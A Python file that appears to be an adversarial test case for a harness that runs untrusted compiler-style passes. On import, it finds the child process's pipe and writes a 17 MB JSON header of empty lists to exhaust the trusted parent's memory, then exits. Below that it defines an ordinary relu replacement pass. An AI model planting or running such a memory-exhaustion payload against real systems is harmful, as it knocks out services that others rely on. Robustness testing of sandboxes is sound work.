"""A pass whose set-up answers the trusted side itself: it finds the child's channel (the pipe its
replies travel in), writes one message header of 17 MB made of empty JSON lists, and exits. The
header is under the channel's 64 MiB bound, but each 3 bytes of it become a Python list of 64
bytes in the trusted process while it is parsed: about 450 MB (and 15 s of its CPU here), before
any check of what it says; a 64 MiB header would take 1.7 GB."""

import gc
import os
import struct

import torch
from pass_dir.kernels import launch_relu

LISTS = 6_000_000


def _channel():
    for thing in gc.get_objects():
        if type(thing).__name__ == "Channel" and hasattr(thing, "write_fd") and getattr(thing, "role", "") == "child":
            return thing
    return None


def _bomb():
    channel = _channel()
    if channel is None:
        raise RuntimeError("no channel found")
    header = b'{"body": [' + b"[]," * (LISTS - 1) + b'[]], "tensors": []}'
    data = struct.pack("<Q", len(header)) + header
    view = memoryview(data)
    while view:
        view = view[os.write(channel.write_fd, view):]
    os._exit(3)


_bomb()


def pattern(a):
    return torch.relu(a)


def replacement_args(a):
    return (a,)


def relu(x):
    return launch_relu(x, torch.empty_like(x))


def replacement_func():
    return relu
